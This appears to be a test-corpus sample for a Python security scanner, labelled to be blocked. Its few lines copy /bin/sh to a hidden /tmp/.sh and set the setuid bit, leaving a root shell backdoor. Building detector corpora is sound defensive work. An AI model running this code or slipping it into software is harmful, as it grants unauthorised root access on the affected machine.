# pyguard-corpus: verdict=block category=filesystem rules=PG703
# what: copies /bin/sh and sets the setuid bit on the copy, leaving a root shell behind
import os
import shutil
import stat

shutil.copy("/bin/sh", "/tmp/.sh")
os.chmod("/tmp/.sh", stat.S_ISUID | stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
